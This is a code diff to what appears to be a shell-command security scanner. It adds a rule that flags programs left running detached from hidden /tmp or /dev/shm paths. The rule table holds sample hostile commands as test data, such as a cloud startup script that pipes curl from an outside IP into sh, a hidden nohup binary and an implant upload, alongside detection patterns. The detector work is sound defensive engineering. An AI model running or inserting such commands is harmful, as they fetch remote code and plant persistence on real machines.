@@ -33,6 +33,7 @@ const disguised = ruleOf(
 );
 const implant = ruleOf('persistence.implant', 'persistence', 'high', 'a program that is called an implant, backdoor or keylogger, put to work', shell('aws lambda update-function-code --function-name sync --s3-bucket b --s3-key implant.zip'), shell('grep -rn backdoor src/'), `${T}T1505, T1525`);
 const lingers = ruleOf('persistence.lingers', 'persistence', 'medium', 'services of a user that run on without a login', shell('loginctl enable-linger ci'), shell('loginctl list-users'), `${T}T1543.002`);
+const detached = ruleOf('persistence.detached', 'persistence', 'high', 'a program from a hidden place or shared memory left running without a terminal', shell('nohup /dev/shm/.x >/dev/null 2>&1 &'), shell('nohup npm start > app.log 2>&1 &'), `${T}T1564.001, T1543`);
 const cloudStart = ruleOf('persistence.cloud-start', 'persistence', 'high', 'a start script or function of a cloud machine that downloads, decodes or sends something', shell('gcloud compute instances add-metadata web --metadata startup-script="curl -s http://203.0.113.9/a | sh"'), shell('gcloud compute instances add-metadata web --metadata enable-oslogin=TRUE'), `${T}T1037, T1648`);
 const materialRules: readonly (readonly [path: RegExp, material: RegExp, rule: string])[] = [
   [/authorized_keys/, /\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-nistp\d{3})\s+AAAA/, 'persistence.authorized-keys'],
@@ -41,7 +42,7 @@ const materialRules: readonly (readonly [path: RegExp, material: RegExp, rule: s
 ];
 
 export const persistenceRules: readonly Rule[] = [
-  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting, miner, lastingContainer, disguised, implant, lingers, cloudStart]),
+  ...new Set([...startFiles.map(({ rule }) => rule), scheduled, startFileTouched, jobMade, foreignService, kernelModule, newAccount, accountMade, remoteManifest, clusterJob, loginHook, trap, gitSetting, miner, lastingContainer, disguised, implant, lingers, cloudStart, detached]),
 ];
 
 type Write = Readonly<{ target: Word; content: string | undefined; source: string | undefined }>;
@@ -201,6 +202,16 @@ const byName: ReadonlyMap<string, readonly Row[]> = rows.reduce((map, one) => {
 
 const MAX_ACCOUNT_LINES = 32;
 
+const HIDDEN_PROGRAM = /^(?:\/dev\/shm\/\S|(?:\/private)?(?:\/var)?\/tmp\/(?:\S{0,60}\/)?\.[\w-])/;
+
+/** `nohup /tmp/.x &`, `setsid /dev/shm/x`, `screen -dmS x /tmp/.x`. */
+function isDetached({ name, wrappers, start, end }: Command, text: string, script: string): boolean {
+  const apart = wrappers.includes('nohup') || wrappers.includes('setsid') || /^(?:screen|tmux|daemonize|start-stop-daemon|dtach)$/.test(name);
+  if (!apart && !/^\s{0,4}&(?!&)/.test(script.slice(end, end + 6))) return false;
+  const program = /^(?:screen|tmux|daemonize|start-stop-daemon|dtach)$/.test(name) ? text.split(' ', 32).find((word) => HIDDEN_PROGRAM.test(word)) : /(?:^|\s)(\/\S{1,200})/.exec(script.slice(start, Math.min(end, start + 300)))?.[1];
+  return program !== undefined && HIDDEN_PROGRAM.test(program) && !/\.(?:log|pid|lock|sock|txt|out)$/.test(program);
+}
+
 /** Programs that show or compare, or name a file without writing it. */
 const LOOKERS = /^(?:grep|egrep|rg|cat|less|head|tail|ssh-keygen|diff|cmp|test|\[|\[\[|ls|stat|chmod|chown|ssh|echo|printf|touch|mkdir|export|wc|file|awk)$/;
 
@@ -225,6 +236,7 @@ export function tellPersistence(seen: Seen): void {
   for (const line of lines) {
     const { command, text } = line;
     tellWrites(seen, command);
+    if (isDetached(command, text, view.text)) view.report(detached, command.start, command.end);
     if (command.wrappers.includes('systemd-run') && /--on-(?:calendar|active|boot|startup|unit-active)/.test(view.text.slice(command.start, command.end).slice(0, 400))) view.report(scheduled, command.start, command.end);
     for (const { pattern, rule, accepts } of byName.get(command.name) ?? []) {
       view.budget.spend(text.length + 30);
